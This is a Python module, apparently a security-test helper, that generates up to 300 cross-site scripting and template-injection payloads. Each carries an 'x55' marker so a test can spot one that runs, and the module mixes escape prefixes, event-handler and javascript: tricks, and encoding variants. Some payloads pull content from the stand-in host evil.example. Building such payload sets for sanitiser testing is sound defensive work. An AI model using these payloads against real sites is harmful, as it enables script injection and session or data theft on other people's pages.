"""Three hundred ways to get a script into a page, each with marks by which it is known should it come alive."""

from itertools import islice, product

#: How to get out of where the text stands.
WAYS_OUT = [
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "]]>",
    "`>",
    '"',
    "'",
    '\\">',
    "\\x3e",
]
#: What runs, or would load something.
SCRIPTS = [
    "<script x55>alert(1)</script>",
    "<img x55 src=x onerror=alert(1)>",
    "<svg x55 onload=alert(1)>",
    "<svg x55><script>alert(1)</script></svg>",
    "<iframe x55 srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a x55 href=javascript:alert(1)>x</a>",
    "<form x55 action=javascript:alert(1)><button>x",
    "<input x55 autofocus onfocus=alert(1)>",
    "<details x55 open ontoggle=alert(1)>",
    "<math x55><mi xlink:href=javascript:alert(1)>x",
    "<base x55 href=//evil.example/>",
    "<link x55 rel=stylesheet href=//evil.example/x55.css>",
    "<meta x55 http-equiv=refresh content='0;url=//evil.example/'>",
    "<object x55 data=//evil.example/x55></object>",
    "<video x55><source onerror=alert(1)></video>",
    "<style x55>@import '//evil.example/x55';</style>",
    "<div x55 hx-get=/x55 hx-trigger=load></div>",
    "<div x55 hx-on:click=alert(1) hx-on::load=alert(1)>",
    "<template x55><img src=x onerror=alert(1)></template>",
    "<img x55 src=//evil.example/x55.png>",
    "{{ 7*7 }}<b x55>{% debug %}</b>",
    "${alert(1)}<b x55>#{alert(1)}",
    " onmouseover=alert(1) x55 ",
    " autofocus onfocus=alert(1) x55=",
    "javascript:alert(1)//x55",
]
SPELLINGS = [
    str,
    str.upper,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "&lt;").replace(">", "&#62;"),
    lambda text: text.replace("script", "scr\u0130pt").replace(" ", "/"),
]


def scripts(count: int) -> list[str]:
    """Give this many, all different, none longer than a name may be; plain ones of every kind come first."""
    plain = SCRIPTS + [way + script for script, way in product(SCRIPTS, WAYS_OUT[1:])]
    spelt = [spell(script) for spell in SPELLINGS[1:] for script in SCRIPTS]
    rows = islice(dict.fromkeys([*plain[:25], *spelt, *plain[25:]]), count)
    return [row for row in rows if len(row) <= 110]
